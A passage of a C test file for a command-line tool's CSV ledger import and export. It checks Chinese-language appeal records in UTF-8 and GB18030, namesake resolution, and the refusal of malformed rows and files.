/*
 * test_ledger.c: `echowallctl import ledger` and `export ledger` (issue 2, §4).
 *
 * What is tested: a good UTF-8 ledger (BOM, shuffled and unknown columns,
 * the three date spellings, every grade and status, quoted fields) imports
 * with the right fields; the same ledger in GB18030 (made with iconv(3)) and
 * in a mix of both encodings imports identically; unknown people and units
 * are added and reported; a name several people share is resolved by the
 * row's branch, then by role, and the guess is reported; every kind of bad
 * file is refused naming the data row and the column, with nothing at all
 * imported (the database file stays byte-identical); a hall may not import;
 * and export -> import -> export gives the same rows, for the demo town, for
 * appeals in every reachable state, and for texts, notes, answers and names
 * a spreadsheet would take for formulas (written with an apostrophe, which
 * import takes off again).
 *
 * One demo database is made for the whole program and copied per test.
 */
#define _GNU_SOURCE
#include "testutil.h"

#include <iconv.h>
#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "code.h"
#include "db.h"
#include "device.h"
#include "roster.h"

#define TODAY "2026-09-01"
#define BOM "\xEF\xBB\xBF"

static char *g_dir;       /* holds the shared demo database */
static char *g_demo;      /* the demo database (closed; copy it, never write it) */
static char g_branch[7][64]; /* names of demo branches H01..H06 ([1]..[6]) */
static char g_leader[64];    /* a responsible leader with a unique name */
static char g_unit[128];     /* a unit of the demo */

/* ---- helpers ---- */

#define CTL(db, ...) tu_ctl((db), __VA_ARGS__, NULL)

#define EXPECT(r, st, needle) expect_run(&(r), (st), (needle), __FILE__, __LINE__)
static void expect_run(const CtlRun *r, int st, const char *needle, const char *file, int line)
{
    if (r->status != st || (needle && !strstr(r->err, needle))) {
        print_error("%s:%d: exit %d (want %d), stderr should hold \"%s\"\nstdout: %s\nstderr: %s\n",
                    file, line, r->status, st, needle ? needle : "", r->out, r->err);
        fail();
    }
}

static json_t *parse_json(const char *text)
{
    json_error_t je;
    json_t *j = json_loads(text, 0, &je);
    if (!j) {
        print_error("not JSON (%s): %s\n", je.text, text);
        fail();
    }
    return j;
}

static const char *jstr(json_t *o, const char *key)
{
    json_t *v = json_object_get(o, key);
    if (!json_is_string(v)) {
        char *d = json_dumps(o, 0);
        print_error("key %s is not a string in %s\n", key, d);
        free(d);
        fail();
    }
    return json_string_value(v);
}

static void assert_jnull(json_t *o, const char *key)
{
    json_t *v = json_object_get(o, key);
    if (!v || !json_is_null(v)) {
        char *d = json_dumps(o, 0);
        print_error("key %s should be null in %s\n", key, d);
        free(d);
        fail();
    }
}

static long long count_appeals(const char *db)
{
    CtlRun r = CTL(db, "stats", "--json");
    EXPECT(r, 0, NULL);
    json_t *s = parse_json(r.out);
    long long n = json_integer_value(json_object_get(s, "appeals"));
    json_decref(s);
    tu_ctl_free(&r);
    return n;
}

/* `appeal list --json` (caller decrefs). */
static json_t *list_all(const char *db)
{
    CtlRun r = CTL(db, "appeal", "list", "--json");
    EXPECT(r, 0, NULL);
    json_t *a = parse_json(r.out);
    tu_ctl_free(&r);
    return a;
}

/* The one appeal whose text is `text`, as `appeal show --json` gives it. */
static json_t *by_text(const char *db, const char *text)
{
    json_t *all = list_all(db), *o, *found = NULL;
    size_t i;
    json_array_foreach(all, i, o) {
        if (json_is_string(json_object_get(o, "text")) && strcmp(jstr(o, "text"), text) == 0) {
            assert_null(found);
            found = o;
        }
    }
    if (!found) {
        print_error("no appeal with text %s\n", text);
        fail();
    }
    CtlRun r = CTL(db, "appeal", "show", jstr(found, "code"), "--json");
    EXPECT(r, 0, NULL);
    json_t *s = parse_json(r.out);
    tu_ctl_free(&r);
    json_decref(all);
    return s;
}

/* Imports with --json; returns the report (exit 0 expected). */
static json_t *import_ok(const char *db, const char *csv)
{
    CtlRun r = CTL(db, "import", "ledger", csv, "--json");
    EXPECT(r, 0, NULL);
    json_t *rep = parse_json(r.out);
    tu_ctl_free(&r);
    return rep;
}

/* 1 when some string of a report array holds all of the needles. */
static int report_has(json_t *rep, const char *key, const char *n1, const char *n2,
                      const char *n3)
{
    json_t *v;
    size_t i;
    json_array_foreach(json_object_get(rep, key), i, v) {
        const char *s = json_string_value(v);
        if (s && strstr(s, n1) && (!n2 || strstr(s, n2)) && (!n3 || strstr(s, n3)))
            return 1;
    }
    return 0;
}

/* UTF-8 -> GB18030 with iconv(3) (malloc'd; *len set). */
static char *to_gb18030(const char *utf8, size_t *len)
{
    iconv_t cd = iconv_open("GB18030", "UTF-8");
    assert_true(cd != (iconv_t)-1);
    size_t inleft = strlen(utf8), cap = inleft * 2 + 16, outleft = cap;
    char *out = malloc(cap), *in = (char *)utf8, *op = out;
    assert_int_not_equal(iconv(cd, &in, &inleft, &op, &outleft), (size_t)-1);
    iconv_close(cd);
    *len = cap - outleft;
    return out;
}

static void write_text(const char *path, const char *text)
{
    tu_write_file(path, text, strlen(text));
}

/* A fresh office database with the same branches as `like`. */
static char *office_like(const char *dir, const char *name, const char *like)
{
    char *db = tu_path(dir, name);
    CtlRun r = CTL(db, "init", "--role", "office");
    EXPECT(r, 0, NULL);
    tu_ctl_free(&r);
    r = CTL(like, "roster", "list", "--json");
    EXPECT(r, 0, NULL);
    json_t *ro = parse_json(r.out), *b;
    tu_ctl_free(&r);
    sqlite3 *h;
    Author self;
    EwErr e = {0};
    assert_int_equal(db_open(db, 0, &h, &e), EW_OK);
    assert_int_equal(db_begin(h, &e), EW_OK);
    assert_int_equal(device_load_self(h, &self, &e), EW_OK);
    size_t i;
    json_array_foreach(json_object_get(ro, "branches"), i, b)
        assert_int_equal(roster_add_branch(h, &self, jstr(b, "code"), jstr(b, "name"), NULL, 0, &e),
                         EW_OK);
    assert_int_equal(db_commit(h, &e), EW_OK);
    db_close(h);
    json_decref(ro);
    return db;
}

/* Adds people (name, role, branch or NULL) to a database through the roster
 * API; ids[] receives their IDs. */
static void add_people(const char *db, const char *const (*who)[3], int n, char ids[][ROSTER_ID_MAX])
{
    sqlite3 *h;
    Author self;
    EwErr e = {0};
    assert_int_equal(db_open(db, 0, &h, &e), EW_OK);
    assert_int_equal(db_begin(h, &e), EW_OK);
    assert_int_equal(device_load_self(h, &self, &e), EW_OK);
    for (int i = 0; i < n; i++)
        if (roster_add_person(h, &self, NULL, who[i][0], who[i][1], who[i][2], 0, ids[i], &e)) {
            print_error("roster_add_person: %s\n", e.msg);
            fail();
        }
    assert_int_equal(db_commit(h, &e), EW_OK);
    db_close(h);
}

/* Data row number n appears in msg as "row n" (not "row n0"). */
static int names_row(const char *msg, int n)
{
    char want[32];
    snprintf(want, sizeof want, "row %d", n);
    for (const char *p = msg; (p = strstr(p, want)); p++) {
        char c = p[strlen(want)];
        if (c < '0' || c > '9')
            return 1;
    }
    return 0;
}

/* ---- fixtures ---- */

static int group_setup(void **state)
{
    (void)state;
    tu_pin_day(TODAY);
    g_dir = tu_tmpdir();
    g_demo = tu_path(g_dir, "demo.db");
    CtlRun r = CTL(g_demo, "demo");
    if (r.status != 0) {
        print_error("demo failed: %s\n", r.err);
        return -1;
    }
    tu_ctl_free(&r);
    r = CTL(g_demo, "roster", "list", "--json");
    json_t *ro = json_loads(r.out, 0, NULL), *x, *y;
    tu_ctl_free(&r);
    if (!ro)
        return -1;
    size_t i, k;
    /* Branches come ordered by code: g_branch[k] is the name of H0k. */
    json_array_foreach(json_object_get(ro, "branches"), i, x)
        if (i < 6)
            snprintf(g_branch[i + 1], sizeof g_branch[0], "%s",
                     json_string_value(json_object_get(x, "name")));
    json_array_foreach(json_object_get(ro, "people"), i, x) {
        if (g_leader[0] || strcmp(json_string_value(json_object_get(x, "role")), "leader"))
            continue;
        int n = 0;
        json_array_foreach(json_object_get(ro, "people"), k, y)
            n += strcmp(json_string_value(json_object_get(x, "name")),
                        json_string_value(json_object_get(y, "name"))) == 0;
        if (n == 1)
            snprintf(g_leader, sizeof g_leader, "%s", json_string_value(json_object_get(x, "name")));
    }
    snprintf(g_unit, sizeof g_unit, "%s",
             json_string_value(json_object_get(json_array_get(json_object_get(ro, "units"), 0), "name")));
    json_decref(ro);
    return g_leader[0] && g_unit[0] && g_branch[6][0] ? 0 : -1;
}

static int group_teardown(void **state)
{
    (void)state;
    tu_rmdir(g_dir);
    free(g_dir);
    free(g_demo);
    return 0;
}

static int setup(void **state)
{
    tu_pin_day(TODAY);
    *state = tu_tmpdir();
    return 0;
}

static int teardown(void **state)
{
    tu_rmdir(*state);
    free(*state);
    return 0;
}

/* ---- the good ledger ---- */

#define HEADER "状态,诉求内容,备注,日期,支部,类别,等级,编号,包联党员,责任领导,责任单位,时限,进度,办理结果\r\n"
#define NROWS 8

/* The good ledger's data rows (UTF-8, one string each, CRLF-terminated). */
static void good_rows(char *rows[NROWS], const char *code6)
{
    assert_true(asprintf(&rows[0], "已受理,村口路灯不亮,,2026-03-05,%s,路灯,,,,,,,,\r\n",
                         g_branch[1]) > 0);
    assert_true(asprintf(&rows[1], "已受理,垃圾堆放点太远,老人反映,2026/3/5,H02,垃圾,绿,2026-001,,,,,,\r\n") > 0);
    assert_true(asprintf(&rows[2], "已分派,桥面裂缝越来越大,,2026年3月5日,%s,道路桥梁,蓝,,新党员甲,%s,%s,2026-04-01,,\r\n",
                         g_branch[3], g_leader, g_unit) > 0);
    assert_true(asprintf(&rows[3], "办理中,\"水渠堵了，\"\"急\"\"\",,2026-03-06,H04,水利,绿,,新党员乙,新领导丙,新单位丁,"
                         "2026/3/20,已派人清淤,\r\n") > 0);
    assert_true(asprintf(&rows[4], "已上报,宅基地边界纠纷,,2026年3月7日,H05,宅基地,橙,,新党员甲,新领导丙,%s,"
                         "2026-04-10,,\r\n", g_unit) > 0);
    assert_true(asprintf(&rows[5], "已办结,\"医保报销问题,\r\n分两次说\",,2026-03-08,%s,两险,绿,%s,新党员乙,%s,新单位丁,"
                         "2026-03-15,已联系医保局,\"已办理完毕, 群众满意\"\r\n", g_branch[6], code6, g_leader) > 0);
    assert_true(asprintf(&rows[6], "已受理,路口需要减速带,,2026-03-09,H01,traffic_safety,,,,,,,,\r\n") > 0);
    assert_true(asprintf(&rows[7], ",学校门口积水,,2026-03-10,H02,其他,蓝,,新党员乙,新领导丙,新单位丁,2026-03-30,,\r\n") > 0);
}

static char *good_file(int bom, const char *code6)
{
    char *rows[NROWS], *text;
    good_rows(rows, code6);
    size_t n = 0;
    FILE *f = open_memstream(&text, &n);
    fputs(bom ? BOM HEADER : HEADER, f);
    for (int i = 0; i < NROWS; i++) {
        fputs(rows[i], f);
        free(rows[i]);
    }
    fclose(f);
    return text;
}

static void explicit_code(char out[CODE_MAX]) { assert_int_equal(code_make("H06", '2', 25000, out), 0); }

static void check_good_import(const char *db, json_t *rep, const char *code6)
{
    assert_int_equal(json_integer_value(json_object_get(rep, "imported")), NROWS);
    json_t *o = by_text(db, "村口路灯不亮");
    assert_string_equal(jstr(o, "hall"), "H01");
    assert_string_equal(jstr(o, "category"), "street_light");
    assert_string_equal(jstr(o, "status"), "received");
    assert_string_equal(jstr(o, "created"), "2026-03-05");
    assert_jnull(o, "grade");
    assert_jnull(o, "due");
    assert_jnull(o, "member");
    assert_string_equal(jstr(o, "source"), "ledger");
    json_decref(o);

    o = by_text(db, "垃圾堆放点太远");
    assert_string_equal(jstr(o, "hall"), "H02");
    assert_string_equal(jstr(o, "category"), "garbage");
    assert_string_equal(jstr(o, "grade"), "green");
    assert_string_equal(jstr(o, "status"), "received");
    assert_string_equal(jstr(o, "created"), "2026-03-05");
    assert_string_equal(jstr(o, "due"), "2026-03-12");
    assert_string_equal(jstr(o, "ledger_no"), "2026-001");
    assert_jnull(o, "member");
    json_decref(o);

    o = by_text(db, "桥面裂缝越来越大");
    assert_string_equal(jstr(o, "hall"), "H03");
    assert_string_equal(jstr(o, "category"), "road_bridge");
    assert_string_equal(jstr(o, "grade"), "blue");
    assert_string_equal(jstr(o, "status"), "assigned");
    assert_string_equal(jstr(o, "created"), "2026-03-05");
    assert_string_equal(jstr(o, "member"), "新党员甲");
    assert_string_equal(jstr(o, "leader"), g_leader);
    assert_string_equal(jstr(o, "unit"), g_unit);
    assert_true(strlen(jstr(o, "member_id")) > 0);
    assert_string_equal(jstr(o, "due"), "2026-04-01");
    assert_int_equal(json_integer_value(json_object_get(o, "overdue_days")), 153);
    char member_a[ROSTER_ID_MAX];
    snprintf(member_a, sizeof member_a, "%s", jstr(o, "member_id"));
    json_decref(o);

    o = by_text(db, "水渠堵了，\"急\"");
    assert_string_equal(jstr(o, "hall"), "H04");
    assert_string_equal(jstr(o, "category"), "water");
    assert_string_equal(jstr(o, "status"), "in_progress");
    assert_string_equal(jstr(o, "member"), "新党员乙");
    assert_string_equal(jstr(o, "leader"), "新领导丙");
    assert_string_equal(jstr(o, "unit"), "新单位丁");
    assert_string_equal(jstr(o, "due"), "2026-03-20");
    json_t *tl = json_object_get(o, "timeline"), *step;
    size_t i;
    int noted = 0;
    json_array_foreach(tl, i, step) noted |= json_is_string(json_object_get(step, "text")) &&
                                             strcmp(jstr(step, "text"), "已派人清淤") == 0;
    assert_true(noted);
    json_decref(o);

    o = by_text(db, "宅基地边界纠纷");
    assert_string_equal(jstr(o, "grade"), "orange");
    assert_string_equal(jstr(o, "status"), "escalated");
    assert_string_equal(jstr(o, "created"), "2026-03-07");
    assert_string_equal(jstr(o, "member_id"), member_a); /* the same 新党员甲 */
    json_decref(o);

    o = by_text(db, "医保报销问题,\n分两次说"); /* CRLF in a cell becomes LF */
    assert_string_equal(jstr(o, "code"), code6);
    assert_string_equal(jstr(o, "hall"), "H06");
    assert_string_equal(jstr(o, "category"), "insurance");
    assert_string_equal(jstr(o, "status"), "solved");
    assert_string_equal(jstr(o, "answer"), "已办理完毕, 群众满意");
    assert_int_equal(json_integer_value(json_object_get(o, "overdue_days")), 0);
    json_decref(o);

    o = by_text(db, "路口需要减速带");
    assert_string_equal(jstr(o, "category"), "traffic_safety");
    assert_string_equal(jstr(o, "status"), "received");
    json_decref(o);

    o = by_text(db, "学校门口积水");
    assert_string_equal(jstr(o, "category"), "other");
    assert_string_equal(jstr(o, "status"), "assigned"); /* 状态 empty: from the columns */
    json_decref(o);

    /* People and units not in the roster were added, and reported. */
    assert_true(report_has(rep, "people_added", "新党员甲", NULL, NULL));
    assert_true(report_has(rep, "people_added", "新党员乙", NULL, NULL));
    assert_true(report_has(rep, "people_added", "新领导丙", NULL, NULL));
    assert_true(report_has(rep, "units_added", "新单位丁", NULL, NULL));
    assert_int_equal(json_array_size(json_object_get(rep, "people_added")), 3);
    assert_int_equal(json_array_size(json_object_get(rep, "units_added")), 1);
    assert_false(report_has(rep, "people_added", g_leader, NULL, NULL));
    CtlRun r = CTL(db, "roster", "list", "--json");
    EXPECT(r, 0, NULL);
    json_t *ro = parse_json(r.out), *p;
    tu_ctl_free(&r);
    int found = 0;
    json_array_foreach(json_object_get(ro, "people"), i, p) {
        if (strcmp(jstr(p, "name"), "新领导丙") == 0) {
            found++;
            assert_string_equal(jstr(p, "role"), "leader");
        }
        if (strcmp(jstr(p, "name"), "新党员甲") == 0) {
            found++;
            assert_string_not_equal(jstr(p, "role"), "leader");
            assert_string_equal(jstr(p, "branch"), "H03");
        }
    }
    assert_int_equal(found, 2);
    json_decref(ro);
}

static void test_import_utf8(void **state)
{
    char *db = tu_copy_db(g_demo, *state, "demo.db"), *csv = tu_path(*state, "ledger.csv");
    char code6[CODE_MAX];
    explicit_code(code6);
    char *text = good_file(1, code6);
    write_text(csv, text);
    long long before = count_appeals(db);
    json_t *rep = import_ok(db, csv);
    assert_int_equal(count_appeals(db), before + NROWS);
    check_good_import(db, rep, code6);
    json_decref(rep);
    /* The plain-text report says the same. */
    char *db2 = tu_copy_db(g_demo, *state, "demo2.db");
    CtlRun r = CTL(db2, "import", "ledger", csv);
    EXPECT(r, 0, NULL);
    assert_non_null(strstr(r.out, "imported 8 appeals"));
    assert_non_null(strstr(r.out, "新单位丁"));
    tu_ctl_free(&r);
    free(text);
    free(db);
    free(db2);
    free(csv);
}

/* The same ledger in GB18030, and mixed line by line, gives the same appeals. */
static void test_import_gb18030_and_mixed(void **state)
{
    char code6[CODE_MAX];
    explicit_code(code6);
    char *utf8 = good_file(0, code6);
    char *db_u = tu_copy_db(g_demo, *state, "u.db"), *csv_u = tu_path(*state, "u.csv");
    write_text(csv_u, utf8);
    json_t *rep_u = import_ok(db_u, csv_u);
    json_t *list_u = list_all(db_u);

    /* GB18030, whole file. */
    size_t n;
    char *gb = to_gb18030(utf8, &n);
    assert_null(memmem(gb, n, "状态", strlen("状态"))); /* really not UTF-8 */
    char *db_g = tu_copy_db(g_demo, *state, "g.db"), *csv_g = tu_path(*state, "g.csv");
    tu_write_file(csv_g, gb, n);
    json_t *rep_g = import_ok(db_g, csv_g);
    check_good_import(db_g, rep_g, code6);
    json_t *list_g = list_all(db_g);
    assert_true(json_equal(list_u, list_g));
    assert_true(json_equal(rep_u, rep_g));

    /* Mixed: the header and odd rows UTF-8 (with a BOM), even rows GB18030. */
    char *rows[NROWS];
    good_rows(rows, code6);
    char *mixed;
    size_t mn = 0;
    FILE *f = open_memstream(&mixed, &mn);
    fputs(BOM HEADER, f);
    for (int i = 0; i < NROWS; i++) {
        if (i % 2) {
            size_t k;
            char *g = to_gb18030(rows[i], &k);
            fwrite(g, 1, k, f);
            free(g);
        } else {
            fputs(rows[i], f);
        }
        free(rows[i]);
    }
    fclose(f);
    char *db_m = tu_copy_db(g_demo, *state, "m.db"), *csv_m = tu_path(*state, "m.csv");
    tu_write_file(csv_m, mixed, mn);
    json_t *rep_m = import_ok(db_m, csv_m);
    check_good_import(db_m, rep_m, code6);
    json_t *list_m = list_all(db_m);
    assert_true(json_equal(list_u, list_m));

    json_decref(rep_u);
    json_decref(rep_g);
    json_decref(rep_m);
    json_decref(list_u);
    json_decref(list_g);
    json_decref(list_m);
    free(utf8);
    free(gb);
    free(mixed);
    free(db_u);
    free(db_g);
    free(db_m);
    free(csv_u);
    free(csv_g);
    free(csv_m);
}

/* A name several people share: the row's branch first, then role; the
 * guess is reported and the file is never refused for it. */
static void test_namesakes(void **state)
{
    char *db = tu_copy_db(g_demo, *state, "demo.db"), *csv = tu_path(*state, "n.csv");
    const char *const who[][3] = {
        {"王重名", "grid_leader", "H03"},    /* 0 */
        {"王重名", "member", "H02"},         /* 1 */
        {"王重名", "secretary", "H02"},      /* 2 */
        {"王重名", "first_secretary", "H04"}, /* 3 */
        {"赵重名", "leader", NULL},          /* 4 */
        {"赵重名", "leader", NULL},          /* 5 */
    };
    char ids[6][ROSTER_ID_MAX];
    add_people(db, who, 6, ids);
    const char text[] =
        "支部,诉求内容,日期,等级,状态,包联党员,责任领导,责任单位\n"
        "H02,重名一,2026-03-01,绿,已分派,王重名,赵重名,镇重名单位\n"
        "H03,重名二,2026-03-01,绿,已分派,王重名,赵重名,镇重名单位\n"
        "H05,重名三,2026-03-01,绿,已分派,王重名,赵重名,镇重名单位\n";
    write_text(csv, text);
    json_t *rep = import_ok(db, csv);
    /* H02 has a member and a secretary of that name: the secretary (role);
     * H03 has one; H05 none: among all, the secretary again (role before ID). */
    static const struct {
        const char *text;
        int member;
    } want[] = {{"重名一", 2}, {"重名二", 0}, {"重名三", 2}};
    for (int i = 0; i < 3; i++) {
        json_t *o = by_text(db, want[i].text);
        if (strcmp(jstr(o, "member_id"), ids[want[i].member]) != 0) {
            print_error("%s: member %s, want %s (%s %s)\n", want[i].text, jstr(o, "member_id"),
                        ids[want[i].member], who[want[i].member][1], who[want[i].member][2]);
            fail();
        }
        assert_string_equal(jstr(o, "leader_id"), ids[4]);
        json_decref(o);
        char row[16];
        snprintf(row, sizeof row, "row %d ", i + 1);
        if (!report_has(rep, "guesses", row, "王重名", ids[want[i].member]) ||
            !report_has(rep, "guesses", row, "包联党员", NULL) ||
            !report_has(rep, "guesses", row, "赵重名", ids[4])) {
            char *d = json_dumps(rep, JSON_INDENT(1));
            print_error("report lacks the guesses for row %d: %s\n", i + 1, d);
            free(d);
            fail();
        }
    }
    json_decref(rep);
    free(db);
    free(csv);
}

/* ---- bad files ---- */

typedef struct BadCase {
    const char *row2;   /* the second data row (the first is good) */
    const char *column; /* the column the message must name */
} BadCase;

#define BAD_HEADER "编号,支部,日期,诉求内容,类别,等级,包联党员,责任领导,责任单位,时限,进度,办理结果,状态\n"
#define GOOD_ROW1 ",H01,2026-03-05,路灯坏了,路灯,绿,,,,,,,已受理\n"

static void expect_refused(const char *db, const char *csv, int row, const char *column,
                           const char *what)
{
    TuSnap s = tu_snap_take(db);
    CtlRun r = CTL(db, "import", "ledger", csv);
    int ok = r.status == 2 && (row == 0 || names_row(r.err, row)) &&
             (!column || strstr(r.err, column)) && !r.out[0];
    if (!ok) {
        print_error("%s: exit %d, stderr %s(want 2 naming row %d and column %s)\n", what,
                    r.status, r.err, row, column ? column : "-");
        fail();
    }
    size_t n = strlen(r.err);
    assert_true(n > 0 && strchr(r.err, '\n') == r.err + n - 1);
    tu_ctl_free(&r);
    if (!tu_snap_same(&s)) {
        print_error("%s: the refused import changed the database\n", what);
        fail();
    }
    tu_snap_free(&s);
}

static void test_bad_rows(void **state)
{
    char *db = tu_copy_db(g_demo, *state, "demo.db"), *csv = tu_path(*state, "bad.csv");
    char dup[CODE_MAX], existing[CODE_MAX], *row_dup, *row_existing, *row_mistyped;
    assert_int_equal(code_make("H02", '2', 26000, dup), 0);
    /* A code the demo already has. */
    json_t *all = list_all(db);
    snprintf(existing, sizeof existing, "%s", jstr(json_array_get(all, 0), "code"));
    json_decref(all);
    char hall[4];
    memcpy(hall, existing, 3);
    hall[3] = '\0';
    assert_true(asprintf(&row_existing, "%s,%s,2026-03-06,又一条,路灯,,,,,,,,已受理\n", existing,
                         hall) > 0);
    assert_true(asprintf(&row_dup, "%s,H02,2026-03-06,又一条,路灯,,,,,,,,已受理\n", dup) > 0);
    char mistyped[CODE_MAX];
    snprintf(mistyped, sizeof mistyped, "%s", dup);
    mistyped[5] = mistyped[5] == '2' ? '3' : '2';
    assert_true(asprintf(&row_mistyped, "%s,H02,2026-03-06,又一条,路灯,,,,,,,,已受理\n",
                         mistyped) > 0);
    const BadCase cases[] = {
        {",H02,2026-02-30,桥坏了,道路桥梁,,,,,,,,已受理\n", "日期"},
        {",H02,05/03/2026,桥坏了,道路桥梁,,,,,,,,已受理\n", "日期"},
        {",H02,2026年13月1日,桥坏了,道路桥梁,,,,,,,,已受理\n", "日期"},
        {",H02,2026-03-05,桥坏了,桥梁坏了,,,,,,,,已受理\n", "类别"},
        {",H02,2026-03-05,桥坏了,道路桥梁,红,,,,,,,已受理\n", "等级"},
        {",不存在村,2026-03-05,桥坏了,道路桥梁,,,,,,,,已受理\n", "支部"},
        {",,2026-03-05,桥坏了,道路桥梁,,,,,,,,已受理\n", "支部"},
        {",H02,2026-03-05,桥坏了,道路桥梁,绿,张三,李四,王五单位,,,,已办结\n", "办理结果"},
        {",H02,2026-03-05,桥坏了,道路桥梁,,张三,李四,王五单位,,,,已分派\n", "等级"},
        {",H02,2026-03-05,桥坏了,道路桥梁,绿,,李四,王五单位,,,,已分派\n", "包联党员"},
        {",H02,2026-03-05,桥坏了,道路桥梁,绿,张三,,王五单位,,,,已分派\n", "责任领导"},
        {",H02,2026-03-05,桥坏了,道路桥梁,绿,张三,李四,,,,,已分派\n", "责任单位"},
        {",H02,2026-03-05,桥坏了,道路桥梁,绿,张三,李四,王五单位,,,,办理中\n", "进度"},
        {",H02,2026-03-05,桥坏了,道路桥梁,蓝,张三,李四,王五单位,,,,已上报\n", "等级"},
        {",H02,2026-03-05,桥坏了,道路桥梁,绿,张三,李四,王五单位,下周,,,已分派\n", "时限"},
        {",H02,2026-03-05,,道路桥梁,,,,,,,,已受理\n", "诉求内容"},
        {",H02,2026-03-05,\"  \",道路桥梁,,,,,,,,已受理\n", "诉求内容"},
        {",H02,2026-03-05,桥坏了,道路桥梁,,,,,,,,已完成\n", "状态"},
        {",H02,2026-03-05,桥坏了,道路桥梁,,,,,,,修好了,已受理\n", "状态"},
        {row_existing, "编号"},
        {row_mistyped, "编号"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char *text;
        assert_true(asprintf(&text, BOM BAD_HEADER GOOD_ROW1 "%s", cases[i].row2) > 0);
        write_text(csv, text);
        expect_refused(db, csv, 2, cases[i].column, cases[i].row2);
        free(text);
    }
    /* A code twice in one file: the second row is named. */
    char *text;
    assert_true(asprintf(&text, BAD_HEADER "%s" GOOD_ROW1 "%s", row_dup, row_dup) > 0);
    write_text(csv, text);
    expect_refused(db, csv, 3, "编号", "duplicate code");
    free(text);
    /* A ledger number twice in one file, likewise. */
    write_text(csv, BAD_HEADER "L-7,H01,2026-03-05,一,路灯,,,,,,,,\n"
                               "L-7,H02,2026-03-05,二,路灯,,,,,,,,\n");
    expect_refused(db, csv, 2, "编号", "duplicate ledger number");
    free(row_dup);
    free(row_existing);
    free(row_mistyped);
    free(db);
    free(csv);
}

/* Bytes that are neither UTF-8 nor GB18030, and broken CSV quoting, are
 * found in their row and column too. */
static void test_bad_bytes_and_quotes(void **state)
{
    char *db = tu_copy_db(g_demo, *state, "demo.db"), *csv = tu_path(*state, "bad.csv");
    write_text(csv, BOM BAD_HEADER GOOD_ROW1 ",H02,2026-03-05,桥坏了\xFF\xFE,道路桥梁,,,,,,,,已受理\n"
                    ",H03,2026-03-05,好的,路灯,,,,,,,,已受理\n");
    expect_refused(db, csv, 2, "诉求内容", "invalid bytes");
    /* The same in a GB18030 file. */
    size_t n;
    char *gb = to_gb18030(BAD_HEADER GOOD_ROW1, &n), *text;
    const char tail[] = ",H02,2026-03-05,\xC7\xC5\x80\x80,\xB5\xC0,,,,,,,,\n";
    text = malloc(n + sizeof tail);
    memcpy(text, gb, n);
    memcpy(text + n, tail, sizeof tail);
    tu_write_file(csv, text, n + sizeof tail - 1);
    expect_refused(db, csv, 2, "诉求内容", "invalid bytes in GB18030");
    free(text);
    /* One line mixing the encodings (each field alone would read well). */
    size_t k;
    char *cat = to_gb18030("道路桥梁", &k);
    const char head[] = ",H02,2026-03-05,桥坏了,";
    text = malloc(n + sizeof head + k + 16);
    memcpy(text, gb, n);
    memcpy(text + n, head, sizeof head - 1);
    memcpy(text + n + sizeof head - 1, cat, k);
    memcpy(text + n + sizeof head - 1 + k, ",,,,,,,,\n", 9);
    tu_write_file(csv, text, n + sizeof head - 1 + k + 9);
    expect_refused(db, csv, 2, "诉求内容", "a line mixing UTF-8 and GB18030");
    free(cat);
    free(text);
    free(gb);
    /* A NUL byte. */
    const char nul[] = BAD_HEADER GOOD_ROW1 ",H02,2026-03-05,桥\0坏了,道路桥梁,,,,,,,,\n";
    tu_write_file(csv, nul, sizeof nul - 1);
    expect_refused(db, csv, 2, "诉求内容", "a NUL byte");
    /* An unterminated quote: the field runs to the end of the file. */
    write_text(csv, BAD_HEADER GOOD_ROW1 ",H02,2026-03-05,\"桥坏了,道路桥梁,,,,,,,,已受理\n"
                                         ",H03,2026-03-05,好的,路灯,,,,,,,,已受理\n");
    expect_refused(db, csv, 2, "诉求内容", "unterminated quote");
    /* A stray character after a closing quote. */
    write_text(csv, BAD_HEADER GOOD_ROW1 ",H02,2026-03-05,\"桥\"坏了,道路桥梁,,,,,,,,已受理\n");
    expect_refused(db, csv, 2, "诉求内容", "text after a closing quote");
    free(db);
    free(csv);
}

static void test_bad_files(void **state)
{
    char *db = tu_copy_db(g_demo, *state, "demo.db"), *csv = tu_path(*state, "bad.csv");
    write_text(csv, "编号,日期,诉求内容\n,2026-03-05,灯坏了\n");
    expect_refused(db, csv, 0, "支部", "no 支部 column");
    write_text(csv, BOM "支部,日期,内容\nH01,2026-03-05,灯坏了\n");
    expect_refused(db, csv, 0, "诉求内容", "no 诉求内容 column");
    write_text(csv, "");
    expect_refused(db, csv, 0, "empty", "an empty file");
    write_text(csv, BOM);
    expect_refused(db, csv, 0, "empty", "a file with only a BOM");
    write_text(csv, "\r\n\r\n");
    expect_refused(db, csv, 0, "empty", "a file of blank lines");
    char *missing = tu_path(*state, "nosuch.csv");
    CtlRun r = CTL(db, "import", "ledger", missing);
    assert_int_not_equal(r.status, 0);
    assert_non_null(strstr(r.err, "nosuch.csv"));
    tu_ctl_free(&r);
    free(missing);
    free(db);
    free(csv);
}

/* Rows of empty cells (what spreadsheets leave below a table) are not rows;
 * a header-only file imports nothing. */
static void test_blank_rows(void **state)
{
    char *db = tu_copy_db(g_demo, *state, "demo.db"), *csv = tu_path(*state, "b.csv");
    long long before = count_appeals(db);
    write_text(csv, BAD_HEADER GOOD_ROW1 ",,,,,,,,,,,,\n,H02,2026-03-05,桥坏了,道路桥梁,,,,,,,,\n"
                               ",,,,,,,,,,,,\r\n,,,\n");
    json_t *rep = import_ok(db, csv);
    assert_int_equal(json_integer_value(json_object_get(rep, "imported")), 2);
    assert_int_equal(count_appeals(db), before + 2);
    json_decref(rep);
    /* Numbering still counts the blank row, as the spreadsheet shows it. */
    write_text(csv, BAD_HEADER GOOD_ROW1 ",,,,,,,,,,,,\n,H02,2026-02-30,桥坏了,道路桥梁,,,,,,,,\n");
    expect_refused(db, csv, 3, "日期", "bad date after a blank row");
    write_text(csv, BAD_HEADER);
    rep = import_ok(db, csv);
    assert_int_equal(json_integer_value(json_object_get(rep, "imported")), 0);
    json_decref(rep);
    assert_int_equal(count_appeals(db), before + 2);
    free(db);
    free(csv);
}

/* A row without a code gets a fresh one that no later row of the file holds. */
static void test_minted_code_avoids_file_codes(void **state)
{
    char *db = office_like(*state, "office.db", g_demo), *csv = tu_path(*state, "c.csv");
    char c0[CODE_MAX], c1[CODE_MAX], *text;
    assert_int_equal(code_make("H01", '2', 0, c0), 0);
    assert_int_equal(code_make("H01", '2', 1, c1), 0);
